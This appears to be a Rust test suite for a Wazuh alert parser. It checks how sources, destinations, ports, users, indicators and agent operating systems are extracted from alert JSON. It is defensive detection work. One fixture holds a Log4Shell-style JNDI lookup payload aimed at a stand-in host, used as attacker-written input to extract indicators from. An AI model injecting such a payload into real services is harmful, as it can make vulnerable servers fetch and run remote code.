//! Who did it, from where and on which machine, where fields of several alerts or ends stand side by side.

use serde_json::{Value, json};
use wazuh_model::{Endpoint, Os, OwnNetworks, UserPart};

use super::{alert, expect, labelled};

#[test]
fn an_active_response_is_about_the_alert_that_it_answers() {
    let occasion = json!({
        "agent": {"id": "001", "name": "web01", "ip": "198.51.100.77"}, "manager": {"name": "mgr", "ip": "198.51.100.78"},
        "rule": {"id": "5712", "info": {"url": "https://rules.example/x"}},
        "data": {"srcip": "203.0.113.9", "srcuser": "root", "win": {"eventdata": {"image": "C:\\\\a.exe"}}},
        "full_log": "sshd[1]: Failed password for root from 203.0.113.9 port 22 ssh2",
    });
    let response = json!({
        "agent": {"id": "001", "name": "web01", "ip": "198.51.100.77"}, "decoder": {"name": "ar_log_json"},
        "data": {"version": "1", "command": "add", "parameters": {"program": "active-response/bin/firewall-drop", "alert": occasion}},
    });
    expect(&response, &[("ip-src", "203.0.113.9")]);
    let response = alert(&response);
    let actors = response.actors();
    let sources: Vec<_> = actors.sources.iter().map(|end| end.ip.as_deref()).collect();
    assert_eq!(sources, [Some("203.0.113.9")]);
    let process = actors.process.unwrap();
    assert_eq!(
        (process.image.as_deref(), process.command_line),
        (Some(r"C:\a.exe"), None)
    );
    assert_eq!(actors.users[0].name, "root");
    // Elsewhere the word is a command.
    let run = alert(&json!({"data": {"command": "add"}}));
    assert_eq!(run.actors().process.unwrap().command_line.as_deref(), Some("add"));
}

#[test]
fn whom_a_proxy_stands_for_is_a_source() {
    for (xff, told, is_alone) in [
        (json!("203.0.113.77"), Some("203.0.113.77"), true),
        (json!(["203.0.113.77"]), Some("203.0.113.77"), true),
        // The nearest proxy wrote the last; before it may stand anybody's address.
        (json!("198.51.100.1, 203.0.113.77,unknown"), Some("203.0.113.77"), false),
        (
            json!("198.51.100.1, 203.0.113.77, 10.0.0.9"),
            Some("203.0.113.77"),
            false,
        ),
        (json!(["198.51.100.1", "203.0.113.77"]), Some("203.0.113.77"), false),
        (json!("10.0.0.8, 10.0.0.9"), Some("10.0.0.9"), false),
        (json!(", ,"), None, false),
    ] {
        let sources: Vec<_> = ["10.0.0.2"].into_iter().chain(told).collect();
        let iocs: Vec<_> = told.filter(|_| is_alone).into_iter().collect();
        // Whichever stands first.
        for data in [
            json!({"src_ip": "10.0.0.2", "dest_ip": "10.0.0.5", "http": {"xff": xff}}),
            json!({"dest_ip": "10.0.0.5", "http": {"xff": xff}, "src_ip": "10.0.0.2"}),
            json!({"a": {"xff": xff}, "src_ip": "10.0.0.2", "dest_ip": "10.0.0.5"}),
        ] {
            let alert = alert(&json!({"data": data}));
            let actors = alert.actors();
            let found: Vec<_> = actors.sources.iter().filter_map(|end| end.ip.as_deref()).collect();
            assert_eq!(found, sources, "{xff}");
            let found = alert.indicators(&OwnNetworks::default());
            let found: Vec<_> = found.iter().map(|one| one.value.as_str()).collect();
            assert_eq!(found, iocs, "{xff}");
        }
    }
    // Of a client of somebody else's it says nothing.
    for name in ["xff", "forwarded_ip"] {
        expect(
            &json!({"data": {"src_ip": "203.0.113.9", name: "203.0.113.77"}}),
            &[("ip-src", "203.0.113.9")],
        );
        expect(
            &json!({"data": {"src_ip": "10.0.0.2", name: "203.0.113.77"}}),
            &[("ip-any", "203.0.113.77")],
        );
    }
    // Kubernetes puts who asked behind.
    for (list, iocs) in [
        (json!(["203.0.113.77", "203.0.113.9"]), &[("ip-src", "203.0.113.9")][..]),
        (json!("203.0.113.77, 203.0.113.9"), &[("ip-src", "203.0.113.9")]),
        (json!(["203.0.113.77", "10.0.0.2"]), &[("ip-any", "203.0.113.77")]),
        (json!(["203.0.113.77", "198.51.100.1", "10.0.0.2"]), &[]),
        (json!(["203.0.113.9"]), &[("ip-src", "203.0.113.9")]),
    ] {
        expect(&json!({"data": {"sourceIPs": list}}), iocs);
    }
}

#[test]
fn whom_a_proxy_stands_for_is_not_the_client_of_a_line() {
    let line = "2026-11-29 8 [Warning] Access denied for user 'root'@'203.0.113.9' (using password: YES)";
    let alert = alert(&json!({"full_log": line, "data": {"xff": "203.0.113.77"}}));
    let actors = alert.actors();
    let sources: Vec<_> = actors.sources.iter().filter_map(|end| end.ip.as_deref()).collect();
    assert_eq!(sources, ["203.0.113.9", "203.0.113.77"]);
}

#[test]
fn ports_stand_with_the_address_that_they_are_of() {
    let ends = |value: &Value| {
        let alert = alert(value);
        let actors = alert.actors();
        let show = |ends: &[Endpoint<'_>]| {
            let show = |end: &Endpoint<'_>| {
                let port = end.port.map(|port| port.to_string());
                [end.ip.as_deref(), end.host.as_deref(), port.as_deref()]
                    .into_iter()
                    .flatten()
                    .collect::<Vec<_>>()
                    .join(" ")
            };
            ends.iter().map(show).collect::<Vec<_>>().join(", ")
        };
        format!("{} > {}", show(&actors.sources), show(&actors.destinations))
    };
    let guard_duty = |action: Value| json!({"data": {"aws": {"source": "guardduty", "service": {"action": {"networkConnectionAction": action}}}}});
    for (value, expected) in [
        (
            guard_duty(
                json!({"connectionDirection": "INBOUND", "localPortDetails": {"port": "22", "portName": "SSH"},
                "remotePortDetails": {"port": "40000"}, "remoteIpDetails": {"ipAddressV4": "198.51.100.0"}}),
            ),
            "198.51.100.0 40000 > 22",
        ),
        (
            guard_duty(
                json!({"localIpDetails": {"ipAddressV4": "10.0.0.5"}, "localPortDetails": {"port": "22"},
                "remoteIpDetails": {"ipAddressV4": "198.51.100.0"}}),
            ),
            "198.51.100.0 > 10.0.0.5 22",
        ),
        (
            json!({"data": {"osquery": {"columns": {"address": "0.0.0.0", "port": "4444", "path": "/tmp/x"}}}}),
            " > ",
        ),
        (
            json!({"data": {"local_address": "10.0.0.5", "local_port": "22", "remote_address": "203.0.113.9", "remote_port": "40000"}}),
            "203.0.113.9 40000 > 10.0.0.5 22",
        ),
        (
            json!({"data": {"office365": {"ClientIP": "[2001:db8::5]:4444", "ActorIpAddress": "[2001:db8::5]"}}}),
            "2001:db8::5 4444 > ",
        ),
        (
            json!({"data": {"client": "x", "clientIP": "203.0.113.9:50123"}}),
            "203.0.113.9 50123 > ",
        ),
        // An address of no side takes no port from one that has a side, and is not told twice.
        (
            json!({"data": {"ip": "10.0.0.5", "srcip": "203.0.113.9", "srcport": "40000"}}),
            "203.0.113.9 40000, 10.0.0.5 > ",
        ),
        (
            json!({"related": {"ip": ["203.0.113.9"]}, "destination": {"ip": "203.0.113.9", "port": 443}}),
            " > 203.0.113.9 443",
        ),
    ] {
        assert_eq!(ends(&value), expected, "{value}");
    }
}

#[test]
fn an_address_of_no_end_is_no_source_where_both_ends_are_told() {
    fn ips(ends: &[Endpoint<'_>]) -> Vec<String> {
        ends.iter()
            .filter_map(|end| end.ip.as_deref().map(str::to_owned))
            .collect()
    }
    for (data, sources, destinations, addresses) in [
        (
            json!({"srcip": "203.0.113.9", "dstip": "8.8.4.4", "tranip": "10.0.0.5"}),
            &["203.0.113.9"][..],
            &["8.8.4.4", "10.0.0.5"][..],
            &[][..],
        ),
        (
            json!({"ipaddr": "203.0.113.66", "srcip": "10.0.0.50", "dstip": "10.0.0.3"}),
            &["10.0.0.50"],
            &["10.0.0.3"],
            &["203.0.113.66"],
        ),
        (
            json!({"ip": "203.0.113.9", "srcip": "203.0.113.9", "dstip": "10.0.0.3"}),
            &["203.0.113.9"],
            &["10.0.0.3"],
            &[],
        ),
        // Of one that is told, nothing says that it is the far one.
        (
            json!({"ip": "203.0.113.9", "dstip": "10.0.0.3"}),
            &["203.0.113.9"],
            &["10.0.0.3"],
            &[],
        ),
        (
            json!({"ip": "203.0.113.9", "srcip": "10.0.0.50", "dstport": "443"}),
            &["10.0.0.50", "203.0.113.9"],
            &[],
            &[],
        ),
    ] {
        let alert = alert(&json!({ "data": data }));
        let actors = alert.actors();
        assert_eq!(ips(&actors.sources), sources, "{data}");
        assert_eq!(ips(&actors.destinations), destinations, "{data}");
        assert_eq!(ips(&actors.addresses), addresses, "{data}");
    }
    // It is news when it is another one, wherever it is shown.
    let resolved = |to: &str| {
        let alert = json!({"rule": {"id": "1"}, "agent": {"id": "1"},
            "data": {"ipaddr": to, "srcip": "10.0.0.50", "dstip": "10.0.0.3", "srcport": "50000", "dstport": "53"}});
        super::alert(&alert).fingerprint().distinct
    };
    assert_ne!(resolved("203.0.113.66"), resolved("203.0.113.67"));
}

#[test]
fn whoever_calls_a_cloud_is_named_beside_whom_the_call_is_about() {
    let role = "arn:aws:sts::123456789012:assumed-role/Admin/eve";
    let call = alert(
        &json!({"data": {"aws": {"eventName": "CreateUser", "requestParameters": {"userName": "backdoor"},
        "userIdentity": {"type": "AssumedRole", "arn": role}}}}),
    );
    let actors = call.actors();
    let users: Vec<_> = actors
        .users
        .iter()
        .map(|user| (user.name.as_ref(), user.part))
        .collect();
    assert_eq!(users, [("backdoor", UserPart::Target), (role, UserPart::Acting)]);
    assert_eq!(labelled("admin_group_add").actors().groups, ["Administrators"]);
}

#[test]
fn a_locked_account_is_locked_from_a_machine_and_is_of_no_domain_called_so() {
    let lockout = json!({"data": {"win": {"system": {"eventID": "4740"}, "eventdata": {"targetUserName": "j.doe",
        "targetDomainName": "WS-FIN-042", "subjectUserName": "DC01$", "subjectDomainName": "CORP"}}}});
    let lockout = alert(&lockout);
    let actors = lockout.actors();
    let target = actors.users.iter().find(|user| user.part == UserPart::Target).unwrap();
    assert_eq!((target.name.as_ref(), target.domain.as_deref()), ("j.doe", None));
    assert_eq!(actors.sources.len(), 1);
    assert_eq!(actors.sources[0].host.as_deref(), Some("WS-FIN-042"));
}

#[test]
fn what_is_no_address_takes_no_room_of_addresses() {
    let lines: Vec<_> = (0..300).map(|n| json!({"ip": format!("x{n}")})).collect();
    let found = alert(&json!({"data": {"office365": {"list": lines, "z": {"ip": "203.0.113.9"}}}}));
    let sources: Vec<_> = found.actors().sources.into_iter().filter_map(|end| end.ip).collect();
    assert_eq!(sources, ["203.0.113.9"]);
}

#[test]
fn only_a_response_brings_the_alert_that_it_answers() {
    let of = |decoder: &str, groups: Value| {
        let value = json!({"decoder": {"name": decoder}, "rule": {"groups": groups}, "data": {"command": "add",
            "parameters": {"program": "firewall-drop", "alert": {"data": {"srcip": "203.0.113.9"}}}}});
        let alert = alert(&value);
        (
            alert.is_response(),
            alert.actors().sources.len(),
            alert.actors().process.is_some(),
        )
    };
    assert_eq!(of("ar_log_json", json!([])), (true, 1, false));
    assert_eq!(of("x", json!(["active_response"])), (true, 1, false));
    assert_eq!(of("json", json!(["web"])), (false, 1, true));
    // In any other log fields of these names are fields like others, and may hold what an attacker wrote.
    let other = |decoder: Value| {
        json!({"decoder": decoder, "data": {"parameters": {"program": "x", "alert": {"q": "${jndi:ldap://evil.example/a}",
            "srcip": "203.0.113.9", "rule": {"sha1": "d12041b8d3c993c94f8e3987f57946d1dae36728"}}}}})
    };
    for other in [other(json!({"name": "json"})), other(json!({}))] {
        expect(
            &other,
            &[
                ("domain", "evil.example"),
                ("url", "ldap://evil.example/a"),
                ("ip-src", "203.0.113.9"),
                ("sha1", "d12041b8d3c993c94f8e3987f57946d1dae36728"),
            ],
        );
        assert_eq!(alert(&other).actors().sources[0].ip.as_deref(), Some("203.0.113.9"));
    }
}

#[test]
fn the_system_of_an_agent_is_known_by_whatever_it_tells_of_its_own_machine() {
    let of = |value: Value| {
        let mut value = value;
        value["agent"] = json!({"id": "001", "name": "x"});
        alert(&value).assets()[0].os
    };
    for windows in [
        json!({"data": {"virustotal": {"source": {"file": "c:\\users\\x\\a.exe"}}}, "location": "virustotal"}),
        json!({"data": {"sca": {"policy": "CIS Microsoft Windows 11 Enterprise Benchmark v1.0.0"}}, "location": "sca"}),
        json!({"data": {"sca": {"policy_id": "cis_win11_enterprise"}}, "location": "sca"}),
        json!({"data": {"vulnerability": {"package": {"name": "Microsoft Visual C++ 2019 Redistributable"}}}, "location": "vulnerability-detector"}),
        json!({"data": {"vulnerability": {"package": {"name": "Mozilla Firefox (x64 en-US)"}}}}),
        json!({"location": "active-response\\active-responses.log"}),
        json!({"decoder": {"name": "ar_log_json"}, "data": {"parameters": {"program": "active-response/bin/netsh.exe"}}, "location": "x"}),
        json!({"data": {"vulnerability": {"package": {"name": "Google Chrome"}}}}),
        json!({"data": {"vulnerability": {"package": {"name": "Microsoft Word"}}}}),
        json!({"data": {"vulnerability": {"package": {"name": "7-Zip 22.01"}}}}),
        json!({"data": {"osquery": {"columns": {"path": "C:\\x.exe"}}}, "location": "osquery"}),
        json!({"syscheck": {"path": "HKEY_LOCAL_MACHINE\\Software"}}),
        json!({"decoder": {"name": "windows_eventchannel"}, "data": {"win": {"eventdata": {"initiated": "true"}}}}),
        json!({"location": r"C:\inetpub\logs\LogFiles\W3SVC1\u_ex.log"}),
        json!({"rule": {"groups": ["windows", "system_error"]}, "location": "WinEvtLog"}),
        json!({"decoder": {"name": "rootcheck"}, "data": {"title": "Windows Audit: Null sessions allowed."}, "location": "rootcheck"}),
    ] {
        assert_eq!(of(windows.clone()), Some(Os::Windows), "{windows}");
    }
    for other in [
        json!({"data": {"virustotal": {"source": {"file": "/home/x/setup.exe"}}}}),
        json!({"data": {"sca": {"policy": "CIS Ubuntu Linux 22.04 LTS Benchmark"}}}),
        json!({"data": {"vulnerability": {"package": {"name": "openssl"}}}}),
        json!({"location": r"netstat -tan | sed 's/\(a\)/\1/'"}),
        json!({"location": "/var/ossec/logs/active-responses.log", "data": {"parameters": {"program": "active-response/bin/firewall-drop"}}}),
        // What the agent reads is written by anybody, where it reads is not.
        json!({"decoder": {"name": "json"}, "data": {"parameters": {"program": r"C:\x.exe"}}, "location": "x"}),
        json!({"decoder": {"name": "json"}, "data": {"columns": {"path": r"C:\x.exe"}}, "location": "/var/log/app.json"}),
        json!({"data": {"columns": {"path": "/Applications/Evil.app/x"}}, "location": "journald"}),
        json!({"decoder": {"name": "json"}, "data": {"columns": {"path": "/Applications/Evil.app/x"}}, "location": "/var/log/app.json"}),
        json!({"decoder": {"name": "json"}, "data": {"win": {"eventdata": {"initiated": "true"}}}, "location": "/var/log/app.json"}),
        // A mailbox tells of other machines.
        json!({"data": {"office365": {"SourceFileName": r"C:\x.docx"}}, "location": "office365"}),
    ] {
        assert!(matches!(of(other.clone()), None | Some(Os::Linux)), "{other}");
    }
    for mac in [
        json!({"data": {"sca": {"policy": "CIS_Apple_macOS_13.0_Ventura_Benchmark_v1.1.0"}}}),
        json!({"data": {"vulnerability": {"package": {"name": "Google Chrome.app"}}}}),
        json!({"data": {"vulnerability": {"package": {"name": "Microsoft Outlook for Mac"}}}}),
        json!({"data": {"columns": {"path": r"C:\x.exe"}}, "location": "/private/var/log/app.json"}),
        json!({"data": {"columns": {"path": "/Applications/Evil.app/x"}}, "location": "/var/log/osquery/osqueryd.results.log"}),
    ] {
        assert_eq!(of(mac.clone()), Some(Os::MacOs), "{mac}");
    }
}

#[test]
fn a_local_account_that_is_called_like_a_machine_is_a_person() {
    let of = |name: &str, domain: &str, computer: &str| {
        let value = json!({"agent": {"id": "001", "name": "collector"}, "data": {"win": {"system": {"eventID": "4720", "computer": computer},
            "eventdata": {"targetUserName": name, "targetDomainName": domain, "subjectUserName": "bob", "subjectDomainName": "CORP"}}}});
        let alert = alert(&value);
        let actors = alert.actors();
        let target = actors.users.iter().find(|user| user.part == UserPart::Target);
        target.unwrap().is_built_in()
    };
    for (domain, computer) in [
        ("WS1", "WS1.corp.example"),
        ("WS1", "ws1"),
        ("VERY-LONG-MACHI", "very-long-machine-01.corp.example"),
    ] {
        assert!(!of("backdoor$", domain, computer), "{domain} {computer}");
    }
    assert!(!of("WS1\\\\backdoor$", "x", "WS1"));
    for (domain, computer) in [
        ("CORP", "WS1.corp.example"),
        ("WORKGROUP", "WS1"),
        ("", "WS1"),
        ("COLLECTOR", "WS1"),
    ] {
        assert!(of("WS1$", domain, computer), "{domain} {computer}");
    }
    assert!(of("SYSTEM", "WS1", "WS1"));
    let finding = json!({"wazuh": {"agent": {"id": "1", "name": "ws1"}, "rule": {"id": "x"}}, "user": {"name": "backdoor$", "domain": "WS1"}});
    assert!(!alert(&finding).actors().users[0].is_built_in());
}
